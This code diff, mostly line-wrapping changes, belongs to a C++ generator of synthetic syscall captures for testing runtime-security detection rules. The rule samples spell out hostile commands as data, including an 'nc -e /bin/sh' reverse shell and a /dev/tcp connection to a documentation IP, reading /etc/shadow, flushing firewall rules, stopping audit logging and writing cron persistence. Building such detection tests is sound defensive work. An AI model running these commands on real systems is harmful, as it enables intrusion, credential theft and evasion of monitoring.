@@ -194,7 +194,8 @@ class Emitter {
     params(b);
     put();
   }
-  void syscall_pair(uint16_t exit_type, const Proc& p, const std::function<void(EventBuilder&)>& exit_params) {
+  void syscall_pair(uint16_t exit_type, const Proc& p,
+                    const std::function<void(EventBuilder&)>& exit_params) {
     begin(static_cast<uint16_t>(exit_type - 1), p);
     put();
     raw(exit_type, p, exit_params);
@@ -203,19 +204,22 @@ class Emitter {
     syscall_pair(301, p, [&](EventBuilder& b) { b.num<int64_t>(0).str(path); });
   }
   void mount(Proc& p, const std::string& dev, const std::string& dir, const std::string& type) {
-    syscall_pair(257, p, [&](EventBuilder& b) { b.num<int64_t>(0).str(dev).str(dir).str(type).num<uint32_t>(0); });
+    syscall_pair(257, p,
+                 [&](EventBuilder& b) { b.num<int64_t>(0).str(dev).str(dir).str(type).num<uint32_t>(0); });
   }
   void unshare(Proc& p, uint32_t flags) {
     syscall_pair(285, p, [&](EventBuilder& b) { b.num<int64_t>(0).num<uint32_t>(flags); });
   }
   void dup2(Proc& p, int64_t oldfd, int64_t newfd) {
-    syscall_pair(363, p, [&](EventBuilder& b) { b.num<int64_t>(newfd).num<int64_t>(oldfd).num<int64_t>(newfd); });
+    syscall_pair(363, p,
+                 [&](EventBuilder& b) { b.num<int64_t>(newfd).num<int64_t>(oldfd).num<int64_t>(newfd); });
   }
   void bpf_prog_load(Proc& p, int64_t fd) {
     syscall_pair(369, p, [&](EventBuilder& b) { b.num<int64_t>(fd).num<uint32_t>(5); });  // BPF_PROG_LOAD
   }
   void finit_module(Proc& p, int64_t fd) {
-    syscall_pair(413, p, [&](EventBuilder& b) { b.num<int64_t>(0).num<int64_t>(fd).str("").num<uint32_t>(0); });
+    syscall_pair(413, p,
+                 [&](EventBuilder& b) { b.num<int64_t>(0).num<int64_t>(fd).str("").num<uint32_t>(0); });
   }
   void ptrace_attach(Proc& p, int64_t pid) {
     syscall_pair(169, p, [&](EventBuilder& b) {
@@ -237,7 +241,11 @@ class Emitter {
     addr += '\0';
     enter(22, p).num<int64_t>(fd).bytes(addr.data(), addr.size());
     put();
-    exit(23, p).num<int64_t>(0).bytes(tuple.data(), tuple.size()).num<int64_t>(fd).bytes(addr.data(), addr.size());
+    exit(23, p)
+        .num<int64_t>(0)
+        .bytes(tuple.data(), tuple.size())
+        .num<int64_t>(fd)
+        .bytes(addr.data(), addr.size());
     put();
   }
   void procexit(Proc& p) {
@@ -421,11 +429,12 @@ void load_scenario(Writer& w, uint64_t target, uint64_t seed) {
   std::fprintf(stderr, "\rload scenario: %llu events\n", static_cast<unsigned long long>(e.events()));
 }
 
-
 constexpr char kContainerId[] = "8f3c2a1b9d4e";
 constexpr char kContainerFullId[] = "8f3c2a1b9d4e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a";
 
-std::string container_cgroups() { return std::string("cpu=/docker/") + kContainerFullId + '\0'; }
+std::string container_cgroups() {
+  return std::string("cpu=/docker/") + kContainerFullId + '\0';
+}
 
 // One small capture per rule of the default ruleset, plus a benign one, for rule tests.
 class RuleSamples {
@@ -471,7 +480,8 @@ class RuleSamples {
 
 // Runs `exe` as a child of `parent` (clone then execve), then `body`, then exit.
 template <typename F>
-void run(Emitter& e, Proc& parent, uint64_t pid, const std::string& exe, const std::vector<std::string>& argv, F body) {
+void run(Emitter& e, Proc& parent, uint64_t pid, const std::string& exe, const std::vector<std::string>& argv,
+         F body) {
   Proc child{pid, parent.pid, parent.comm, parent.exe, parent.args, parent.cwd, parent.uid};
   e.clone(parent, child);
   e.execve(child, exe, argv);
@@ -487,19 +497,22 @@ void rules_scenario(const std::string& dir) {
   constexpr uint32_t kRead = 1, kWrite = 2, kCreate = 4, kTrunc = 1u << 8;
 
   s.sample("sensitive-file-read-by-an-untrusted-program", false, [&](Emitter& e, Proc& sh) {
-    run(e, sh, 6001, "/usr/bin/cat", {"cat", "/etc/shadow"}, [&](Proc& p) { e.openat(p, "/etc/shadow", kRead, 3); });
+    run(e, sh, 6001, "/usr/bin/cat", {"cat", "/etc/shadow"},
+        [&](Proc& p) { e.openat(p, "/etc/shadow", kRead, 3); });
   });
   s.sample("program-run-from-a-temporary-directory", false,
            [&](Emitter& e, Proc& sh) { run(e, sh, 6001, "/tmp/x", {"/tmp/x"}, none); });
   s.sample("permission-change-below-a-temporary-directory", false, [&](Emitter& e, Proc& sh) {
-    run(e, sh, 6001, "/usr/bin/chmod", {"chmod", "+x", "/tmp/x"}, [&](Proc& p) { e.chmod(p, "/tmp/x", 0755); });
+    run(e, sh, 6001, "/usr/bin/chmod", {"chmod", "+x", "/tmp/x"},
+        [&](Proc& p) { e.chmod(p, "/tmp/x", 0755); });
   });
   s.sample("download-tool-connects-outside-the-private-network", false, [&](Emitter& e, Proc& sh) {
     run(e, sh, 6001, "/usr/bin/wget", {"wget", "http://198.51.100.23/a"},
         [&](Proc& p) { e.socket_connect(p, 3, local, 40000, pub, 80); });
   });
   s.sample("network-connection-from-a-program-in-a-temporary-directory", false, [&](Emitter& e, Proc& sh) {
-    run(e, sh, 6001, "/dev/shm/.k", {"/dev/shm/.k"}, [&](Proc& p) { e.socket_connect(p, 3, local, 40001, pub, 443); });
+    run(e, sh, 6001, "/dev/shm/.k", {"/dev/shm/.k"},
+        [&](Proc& p) { e.socket_connect(p, 3, local, 40001, pub, 443); });
   });
   s.sample("user-switched-to-root", false, [&](Emitter& e, Proc& sh) {
     run(e, sh, 6001, "/usr/bin/sudo", {"sudo", "-s"}, [&](Proc& p) { e.setuid(p, 0); });
@@ -529,13 +542,15 @@ void rules_scenario(const std::string& dir) {
     run(e, sh, 6001, "/memfd:x (deleted)", {"x"}, none);
     e.set_exe_flags(0);
   });
-  s.sample("shell-started-in-a-container", true,
-           [&](Emitter& e, Proc& app) { run(e, app, 6001, "/bin/sh", {"sh", "-i"}, none); });
+  s.sample("shell-started-in-a-container", true, [&](Emitter& e, Proc& app) {
+    run(e, app, 6001, "/bin/sh", {"sh", "-i"}, none);
+  });
   s.sample("package-manager-run-in-a-container", true, [&](Emitter& e, Proc& app) {
     run(e, app, 6001, "/usr/bin/apt-get", {"apt-get", "install", "-y", "nmap"}, none);
   });
-  s.sample("shell-spawned-by-a-web-server", true,
-           [&](Emitter& e, Proc& app) { run(e, app, 6001, "/bin/bash", {"bash", "-c", "id"}, none); });
+  s.sample("shell-spawned-by-a-web-server", true, [&](Emitter& e, Proc& app) {
+    run(e, app, 6001, "/bin/bash", {"bash", "-c", "id"}, none);
+  });
   s.sample("persistence-location-written", false, [&](Emitter& e, Proc& sh) {
     run(e, sh, 6001, "/usr/bin/tee", {"tee", "/etc/cron.d/update"},
         [&](Proc& p) { e.openat(p, "/etc/cron.d/update", kWrite | kCreate, 3); });
@@ -568,7 +583,8 @@ void rules_scenario(const std::string& dir) {
         [&](Proc& p) { e.openat(p, "/proc/812/environ", kRead, 3); });
   });
   s.sample("container-runtime-socket-connected", true, [&](Emitter& e, Proc& app) {
-    run(e, app, 6001, "/usr/bin/curl", {"curl", "--unix-socket", "/var/run/docker.sock", "http://x/containers/json"},
+    run(e, app, 6001, "/usr/bin/curl",
+        {"curl", "--unix-socket", "/var/run/docker.sock", "http://x/containers/json"},
         [&](Proc& p) { e.unix_connect(p, 3, "/var/run/docker.sock"); });
   });
   s.sample("socket-redirected-to-standard-input-or-output", false, [&](Emitter& e, Proc& sh) {
@@ -581,13 +597,15 @@ void rules_scenario(const std::string& dir) {
     run(e, sh, 6001, "/usr/bin/nc", {"nc", "-e", "/bin/sh", "198.51.100.23", "9001"}, none);
   });
   s.sample("connection-to-a-mining-pool-port", false, [&](Emitter& e, Proc& sh) {
-    run(e, sh, 6001, "/home/alice/xmr", {"xmr"}, [&](Proc& p) { e.socket_connect(p, 3, local, 40003, pub, 3333); });
+    run(e, sh, 6001, "/home/alice/xmr", {"xmr"},
+        [&](Proc& p) { e.socket_connect(p, 3, local, 40003, pub, 3333); });
   });
   s.sample("bpf-program-loaded", false, [&](Emitter& e, Proc& sh) {
     run(e, sh, 6001, "/home/alice/loader", {"loader"}, [&](Proc& p) { e.bpf_prog_load(p, 5); });
   });
-  s.sample("user-account-created-or-changed", false,
-           [&](Emitter& e, Proc& sh) { run(e, sh, 6001, "/usr/sbin/useradd", {"useradd", "-m", "backup2"}, none); });
+  s.sample("user-account-created-or-changed", false, [&](Emitter& e, Proc& sh) {
+    run(e, sh, 6001, "/usr/sbin/useradd", {"useradd", "-m", "backup2"}, none);
+  });
   s.sample("password-database-written-by-an-untrusted-program", false, [&](Emitter& e, Proc& sh) {
     run(e, sh, 6001, "/usr/bin/python3", {"python3", "add_user.py"},
         [&](Proc& p) { e.openat(p, "/etc/passwd", kWrite | (1u << 3), 3); });
@@ -604,17 +622,20 @@ void rules_scenario(const std::string& dir) {
     run(e, sh, 6001, "/bin/bash", {"bash", "-c", "exec 3<>/dev/tcp/198.51.100.23/9001"},
         [&](Proc& p) { e.socket_connect(p, 3, local, 40004, pub, 9001); });
   });
-  s.sample("firewall-rules-flushed-or-disabled", false,
-           [&](Emitter& e, Proc& sh) { run(e, sh, 6001, "/usr/sbin/iptables", {"iptables", "-F"}, none); });
-  s.sample("audit-logging-stopped", false,
-           [&](Emitter& e, Proc& sh) { run(e, sh, 6001, "/usr/sbin/auditctl", {"auditctl", "-e", "0"}, none); });
+  s.sample("firewall-rules-flushed-or-disabled", false, [&](Emitter& e, Proc& sh) {
+    run(e, sh, 6001, "/usr/sbin/iptables", {"iptables", "-F"}, none);
+  });
+  s.sample("audit-logging-stopped", false, [&](Emitter& e, Proc& sh) {
+    run(e, sh, 6001, "/usr/sbin/auditctl", {"auditctl", "-e", "0"}, none);
+  });
   s.sample("program-run-from-a-hidden-directory", false,
            [&](Emitter& e, Proc& sh) { run(e, sh, 6001, "/home/alice/.x/miner", {"miner"}, none); });
 
   // Everyday administration that no rule should flag.
   s.sample("benign", false, [&](Emitter& e, Proc& sh) {
     const uint8_t mirror[4] = {10, 0, 0, 9};
-    run(e, sh, 6001, "/usr/bin/ls", {"ls", "-la"}, [&](Proc& p) { e.openat(p, "/home/alice", kRead | (1u << 10), 3); });
+    run(e, sh, 6001, "/usr/bin/ls", {"ls", "-la"},
+        [&](Proc& p) { e.openat(p, "/home/alice", kRead | (1u << 10), 3); });
     run(e, sh, 6002, "/usr/bin/cat", {"cat", "/etc/hosts"}, [&](Proc& p) {
       e.openat(p, "/etc/hosts", kRead, 3);
       e.read(p, 3, "127.0.0.1 localhost\n");
@@ -626,7 +647,8 @@ void rules_scenario(const std::string& dir) {
         [&](Proc& p) { e.socket_connect(p, 3, local, 40005, mirror, 80); });
     run(e, sh, 6005, "/usr/bin/ssh", {"ssh", "build01"},
         [&](Proc& p) { e.openat(p, "/home/alice/.ssh/id_ed25519", kRead, 3); });
-    run(e, sh, 6006, "/usr/bin/git", {"git", "status"}, [&](Proc& p) { e.openat(p, "/home/alice/src/.git/HEAD", kRead, 3); });
+    run(e, sh, 6006, "/usr/bin/git", {"git", "status"},
+        [&](Proc& p) { e.openat(p, "/home/alice/src/.git/HEAD", kRead, 3); });
   });
   std::fprintf(stderr, "rules scenario: %d captures in %s\n", s.count(), dir.c_str());
 }
@@ -638,7 +660,8 @@ int main(int argc, char** argv) {
   std::string out, scenario = "load", compression = "none";
   uint64_t events = 2000000, seed = 1;
   app.add_option("-o,--output", out, "Capture to write")->required();
-  app.add_option("--scenario", scenario, "load, shell, or rules (one capture per default rule, -o names a directory)")
+  app.add_option("--scenario", scenario,
+                 "load, shell, or rules (one capture per default rule, -o names a directory)")
       ->check(CLI::IsMember({"load", "shell", "rules"}));
   app.add_option("--events", events, "Events to write (load scenario)");
   app.add_option("--seed", seed, "Random seed (load scenario)");
